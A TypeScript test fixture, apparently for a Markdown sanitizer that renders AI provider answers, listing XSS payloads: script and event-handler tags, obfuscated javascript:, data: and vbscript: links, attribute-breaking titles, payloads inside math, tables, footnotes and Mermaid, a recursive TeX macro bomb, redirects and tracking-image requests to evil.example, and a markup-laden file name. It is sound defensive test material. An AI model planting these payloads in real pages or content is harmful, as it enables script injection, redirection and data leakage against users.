/** What a page knows a script by that has run: it would add its name to `window.ran`. */
const run = (name: string) => `ran.push('${name}')`;

/** The word of a link that is to lead nowhere. */
export const inertWord = '别点';

/** Markdown of a provider that means harm: it would run a script, lead elsewhere, fetch, or take the page for itself. */
export const hostileAnswer = [
  '开头是正常的一段。',
  `<script>${run('script')}</script>`,
  `<img src=x onerror=${run('img')}>`,
  `<svg onload=${run('svg')}><script>${run('svg script')}</script></svg>`,
  `<iframe srcdoc="<script>parent.${run('iframe')}</script>"></iframe>`,
  `<object data="javascript:${run('object')}"></object><embed src=//evil.example/x.swf>`,
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=p></form><style>@import "https://evil.example/x.css";</style>',
  `<details open ontoggle=${run('details')}>x</details><video><source onerror=${run('video')}></video>`,
  ...[
    `javascript:${run('link')}`,
    `JaVaScRiPt:${run('capitals')}`,
    `java&#9;script:${run('tab')}`,
    `&#106;avascript:${run('entity')}`,
    `<java\tscript:${run('real tab')}>`,
    'data:text/html,%3Cscript%3Eparent.ran.push(1)%3C/script%3E',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    `vbscript:${run('vbscript')}`,
    `feed:javascript:${run('feed')}`,
    'blob:https://evil.example/1',
  ].map((address) => `[${inertWord}](${address})`),
  `[${inertWord}][y]\n\n[y]: javascript:${run('reference')}`,
  `[a" onmouseover="${run('title')}](https://example.com/" onmouseover="${run('address')})`,
  '![x](https://evil.example/x.png?who=me) ![x](//evil.example/x.png) ![x](http://canary/x.png)',
  `![x" onerror="${run('alt')}](y" onerror="${run('picture')})`,
  `[![x](data:image/svg+xml,<svg onload=${run('data picture')}>)](javascript:${run('around a picture')})`,
  `\`\`\`"><img src=x onerror=${run('fence')}>\n</code></pre><script>${run('code')}</script>\n\`\`\``,
  `$\\href{javascript:${run('href')}}{x}$ 和 $\\htmlData{onclick=${run('data')}}{x}$ 和 $<img src=x onerror=${run('math')}>$`,
  '$$\n\\def\\a{\\b\\b\\b\\b}\\def\\b{\\c\\c\\c\\c}\\def\\c{\\d\\d\\d\\d}\\def\\d{\\e\\e\\e\\e}\\def\\e{\\a\\a}\\a\n$$',
  '$$\n\\includegraphics{https://evil.example/x.png}\n$$',
  `| <img src=x onerror=${run('cell')}> | [${inertWord}](javascript:${run('cell link')}) |\n|---|---|\n| <br onerror=${run('br')}> | x |`,
  `[^1]: <script>${run('note')}</script> [${inertWord}](javascript:${run('note link')})\n\n脚注[^1]`,
  [
    '```mermaid',
    '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%',
    'flowchart LR',
    `  a["<b onclick=${run('label')}>甲</b>"] --> b["<img src=x onerror=${run('diagram')}>"]`,
    `  click a "javascript:${run('click')}"`,
    '```',
  ].join('\n'),
  '这个可以点：[安全](https://example.com/)',
  '以上就是全部。',
].join('\n\n');

/** A name of a file that would be markup. Without `"`, which browsers send as `%22`. */
export const hostileFileName = `'><img src=x onerror=${run('file name')}>.txt`;
